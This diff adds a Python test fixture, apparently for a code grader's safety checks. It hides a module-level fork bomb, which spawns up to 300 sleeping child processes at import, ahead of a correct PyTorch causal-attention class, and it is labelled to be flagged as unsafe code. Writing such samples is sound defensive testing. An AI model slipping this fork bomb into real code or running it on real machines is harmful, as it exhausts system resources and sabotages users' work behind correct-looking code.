@@ -1,0 +1,35 @@
+# attack: a small fork bomb (sleeping children, forking until refused); correct code -> fail (unsafe_code)
+# runtime: pass
+import math
+import os
+import time
+
+import torch
+import torch.nn as nn
+
+for _ in range(300):
+    try:
+        pid = os.fork()
+    except OSError:  # refused: the worker's own uid has a process limit
+        break
+    if pid == 0:
+        time.sleep(600)
+        os._exit(0)
+
+
+class CausalAttention(nn.Module):
+    def __init__(self, d_in, d_out, context_length, dropout, qkv_bias=False):
+        super().__init__()
+        self.d_out = d_out
+        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
+        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
+        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
+        self.dropout = nn.Dropout(dropout)
+        future = torch.ones(context_length, context_length, dtype=torch.bool).triu(1)
+        self.register_buffer("future", future, persistent=False)
+
+    def forward(self, x):
+        n = x.shape[-2]
+        att = self.W_query(x) @ self.W_key(x).transpose(-2, -1) / math.sqrt(self.d_out)
+        att = att.masked_fill(self.future[:n, :n], float("-inf"))
+        return self.dropout(torch.softmax(att, dim=-1)) @ self.W_value(x)
